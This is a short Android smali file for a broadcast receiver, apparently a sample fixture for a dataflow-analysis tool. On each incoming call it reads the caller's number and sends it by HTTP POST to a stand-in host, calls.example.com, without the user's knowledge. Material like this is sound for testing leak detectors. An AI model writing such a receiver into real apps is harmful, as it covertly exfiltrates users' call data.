.class public Lorg/dexflow/sample/callwatcher/CallReceiver;
.super Landroid/content/BroadcastReceiver;
.source "CallReceiver.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

# PHONE_STATE broadcast: the caller's number arrives in the "incoming_number" extra.
.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 5
    const-string v0, "incoming_number"
    invoke-virtual {p2, v0}, Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    if-eqz v0, :done
    const-string v1, "https://calls.example.com/incoming"
    invoke-static {v1, v0}, Lorg/dexflow/sample/callwatcher/CallReceiver;->post(Ljava/lang/String;Ljava/lang/String;)V
    :done
    return-void
.end method

.method static post(Ljava/lang/String;Ljava/lang/String;)V
    .registers 5
    new-instance v0, Ljava/net/URL;
    invoke-direct {v0, p0}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v0}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v0
    check-cast v0, Ljava/net/HttpURLConnection;
    const/4 v1, 0x1
    invoke-virtual {v0, v1}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v1
    invoke-virtual {p1}, Ljava/lang/String;->getBytes()[B
    move-result-object v2
    invoke-virtual {v1, v2}, Ljava/io/OutputStream;->write([B)V
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getResponseCode()I
    return-void
.end method
